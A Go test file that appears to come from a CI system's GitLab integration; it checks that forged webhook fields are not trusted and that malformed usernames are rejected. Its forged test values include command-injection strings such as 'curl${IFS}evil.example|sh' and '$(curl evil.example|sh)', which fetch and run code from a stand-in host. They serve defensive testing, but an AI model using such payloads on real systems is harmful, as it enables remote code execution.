// SPDX-License-Identifier: Apache-2.0

package gitlab

import (
	"net/http"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/plumbline-ci/plumbline/pkg/apis/plumbline/v1alpha1"
	"github.com/plumbline-ci/plumbline/pkg/fault"
	"github.com/plumbline-ci/plumbline/pkg/provider"
	"github.com/plumbline-ci/plumbline/test/forge"
	forgelab "github.com/plumbline-ci/plumbline/test/forge/gitlab"
)

// believed are the fields that planning takes from a delivery, and why a false value in them gains
// nothing. All others are read from GitLab, or the event starts nothing.
var believed = map[string]string{
	"Provider": "the decoder's constant", "InstallationID": "GitHub's", "Body": "GitHub's", "Rerun": "GitHub's",
	"Project.CloneURL": "of other services",
	"Repository":       "the receiver's", "Payload": "the receiver's", "ReceivedAt": "the receiver's",
	"Incoming":    "the receiver's, for a request to /incoming",
	"Host":        "the receiver has found the Repository by it, and no other host is called with its token",
	"DeliveryKey": "tells one delivery from another one",
	"Trigger":     "follows from the kind of delivery: what each kind says is confirmed",
	"EventType":   "the kind of delivery: what each kind says is confirmed",
	"Action":      "the kind of delivery: who acted is asked for, and whether a merge request is closed",
	"Actor":       "GitLab is asked who acted (Access.Actor) before the rights of who acted count",
	"Sender":      "a name that GitLab could have given; only a comment's author has rights by it, who is confirmed",
	"Before":      "the files that count as changed: another push of the commit could start the same (docs/gitlab.md)",
	"HappenedAt":  "never later than GitLab has it; which run is the newest Git says (ADR 43)",
	"Headers":     "expressions read them as they read the body, which is the sender's word (docs/gitlab.md)",
}

// forgeries are the events that Complete confirms, by kind.
func forgeries(t *testing.T) map[string]func() (bench, *v1alpha1.GitEventSpec) {
	t.Helper()
	request := func(b bench, iid int64) *v1alpha1.GitEventSpec {
		return b.decode(b.MergeRequestDelivery(forgelab.MergeRequestEvent{Project: testProject, IID: iid}))
	}
	own := func() (bench, int64) {
		b := newBench(t, forgelab.Options{})
		b.Commit("topic", map[string]string{"x": "z"})
		b.SetBranch(testProject, "other", b.head.SHA, "dev")
		return b, b.OpenMergeRequest(forgelab.NewMergeRequest{
			Target: testProject, SourceBranch: "topic", Author: "dev", Labels: []string{"a"},
		})
	}
	return map[string]func() (bench, *v1alpha1.GitEventSpec){
		"a merge request": func() (bench, *v1alpha1.GitEventSpec) { b, iid := own(); return b, request(b, iid) },
		"a merge request that is closed": func() (bench, *v1alpha1.GitEventSpec) {
			b, iid := own()
			b.CloseMergeRequest(testProject, iid, "dev")
			return b, request(b, iid)
		},
		"a merge request of a fork": func() (bench, *v1alpha1.GitEventSpec) {
			b, iid := forked(t, forgelab.Public, "")
			return b, request(b, iid)
		},
		"a comment": func() (bench, *v1alpha1.GitEventSpec) {
			b, iid := own()
			return b, b.decode(b.NoteDelivery(b.AddNote(testProject, iid, "rita", "/test")))
		},
		"a comment on a fork's": func() (bench, *v1alpha1.GitEventSpec) {
			b, iid := forked(t, forgelab.Public, "")
			return b, b.decode(b.NoteDelivery(b.AddNote(testProject, iid, "rita", "/test")))
		},
		"a comment on a commit": func() (bench, *v1alpha1.GitEventSpec) {
			b := newBench(t, forgelab.Options{})
			return b, b.remarked(b.head.SHA, "/test")
		},
		"a push": func() (bench, *v1alpha1.GitEventSpec) {
			b := newBench(t, forgelab.Options{})
			return b, b.pushEvent("refs/heads/main")
		},
		"a push that others came after": func() (bench, *v1alpha1.GitEventSpec) {
			b := newBench(t, forgelab.Options{})
			event := b.pushEvent("refs/heads/main")
			b.Commit("main", map[string]string{"x": "later"})
			return b, event
		},
		"a tag": func() (bench, *v1alpha1.GitEventSpec) {
			b := newBench(t, forgelab.Options{})
			b.CreateTag(testProject, "v1", b.head.SHA, "dev")
			return b, b.pushEvent("refs/tags/v1")
		},
	}
}

// planned completes an event as planning does, with a login for its project.
func (b bench) planned(t *testing.T, event *v1alpha1.GitEventSpec) (*v1alpha1.GitEventSpec, error) {
	t.Helper()
	login := provider.Credentials{Token: b.token.Value, Reach: loopback()}
	client, err := New(Options{}).Connect(t.Context(), b.URL(), event.Project, login)
	if err != nil {
		return nil, err
	}
	return client.Complete(t.Context(), event)
}

// Anybody who knows a webhook's token can send any body. Each field of the event in turn
// contradicts GitLab.
func TestCompleteTrustsNoUnconfirmedField(t *testing.T) {
	reasons := map[string]bool{}
	for name, open := range forgeries(t) {
		t.Run(name, func(t *testing.T) {
			b, event := open()
			want := b.completes(t, event)
			fields(reflect.ValueOf(event).Elem(), "", func(path string, set func(reflect.Value)) {
				why := reasonFor(path)
				reasons[why] = true
				forged := event.DeepCopy()
				set(reflect.ValueOf(forged).Elem())
				got, err := b.planned(t, forged)
				if d := cmp.Diff(want, got); err == nil && why == "" && d != "" {
					t.Errorf("%s is forged, and believed:\n%s", path, d)
				}
			})
		})
	}
	for path, why := range believed {
		if !reasons[why] {
			t.Errorf("%s is no field of an event", path)
		}
	}
}

func reasonFor(path string) string {
	for field, why := range believed {
		if path == field || strings.HasPrefix(path, field+".") {
			return why
		}
	}
	return ""
}

// fields calls f for each field below a struct, with a function that forges it in another struct of
// the same type.
func fields(v reflect.Value, path string, each func(path string, set func(reflect.Value))) {
	for i := range v.NumField() {
		name, field := v.Type().Field(i).Name, v.Field(i)
		at := func(root reflect.Value) reflect.Value { return reflect.Indirect(root).Field(i) }
		nested := func(sub string, set func(reflect.Value)) { each(sub, func(root reflect.Value) { set(at(root)) }) }
		switch inner := reflect.Indirect(field); {
		case inner.IsValid() && inner.Kind() == reflect.Struct && inner.Type() != reflect.TypeFor[metav1.Time]():
			fields(inner, path+name+".", nested)
		default:
			each(path+name, func(root reflect.Value) { forgeIn(at(root)) })
		}
	}
}

// forgeIn changes a value to a false one.
func forgeIn(v reflect.Value) {
	const evil = "https://evil.example/app;curl${IFS}evil.example|sh"
	switch v.Kind() {
	case reflect.String:
		v.SetString(evil)
	case reflect.Bool:
		v.SetBool(!v.Bool())
	case reflect.Int32, reflect.Int64:
		v.SetInt(v.Int() + 1)
	case reflect.Slice:
		v.Set(reflect.Append(v, reflect.New(v.Type().Elem()).Elem()))
		forgeIn(v.Index(v.Len() - 1))
	case reflect.Map:
		v.Set(reflect.ValueOf(map[string]string{"X-Forged": evil}))
	case reflect.Struct: // a time
		v.Set(reflect.ValueOf(metav1.NewTime(time.Now().Add(time.Hour))))
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		for i := range v.Elem().NumField() {
			if v.Type() != reflect.TypeFor[*metav1.Time]() {
				forgeIn(v.Elem().Field(i))
			}
		}
	}
}

// A fork that the token may not read has no confirmed address. One 404 may be from a stale replica.
func TestCompleteReadsForkURL(t *testing.T) {
	event := func(b bench, iid int64) *v1alpha1.GitEventSpec {
		return b.decode(b.MergeRequestDelivery(forgelab.MergeRequestEvent{Project: testProject, IID: iid}))
	}
	b, iid := forked(t, forgelab.Private, "")
	if got := b.completes(t, event(b, iid)); got.HeadURL != "" || got.PullRequest.HeadProjectID == 0 {
		t.Errorf("a private fork is at %q", got.HeadURL)
	}
	b, iid = forked(t, forgelab.Public, "")
	b.Inject(forgelab.Fault{Route: forgelab.RouteProject, From: 2, Count: 1, Do: forgelab.NotFound404()})
	if got := b.completes(t, event(b, iid)); !strings.HasSuffix(got.HeadURL, "/"+testFork) {
		t.Errorf("after one 404 the fork is at %q", got.HeadURL)
	}
	for what, answer := range map[string]forge.Action{
		"an outage":       forge.Answer(http.StatusBadGateway, nil, ""),
		"another project": forge.Answer(http.StatusOK, nil, `{"id":7,"web_url":"https://x"}`),
	} {
		b.Inject(forgelab.Fault{Route: forgelab.RouteProject, From: 2, Count: 1, Do: answer})
		if got, err := b.client.Complete(t.Context(), event(b, iid)); !fault.Is(err, fault.Transient) {
			t.Errorf("%s: %+v, %v, want a Transient fault", what, got, err)
		}
	}
}

// A sender is a placeholder of templates, so it must be a name that GitLab allows.
func TestDecodeRefusesInvalidUsernames(t *testing.T) {
	const evil = `"username": "$(curl evil.example|sh)"`
	for file, c := range map[string]struct{ event, old, field string }{
		"push-branch":        {eventPush, `"user_username": "ada"`, "user_username"},
		"tag-annotated":      {eventTag, `"user_username": "ada"`, "user_username"},
		"mr-open-fork":       {eventMergeRequest, `"username": "dev"`, "user.username"},
		"note-merge-request": {eventNote, `"username": "dev"`, "user.username"},
		"note-commit":        {eventNote, `"username": "dev"`, "user.username"},
	} {
		body := recorded(t, file)
		field := strings.TrimPrefix(c.field, "user.")
		forged := strings.Replace(string(body), c.old, strings.Replace(evil, "username", field, 1), 1)
		_, err := webhook{}.Decode(headers(c.event), []byte(forged))
		if forged == string(body) || !fault.Is(err, fault.Invalid) || !strings.Contains(err.Error(), c.field) {
			t.Errorf("%s: %v, want Invalid with %q", file, err, c.field)
		}
	}
}
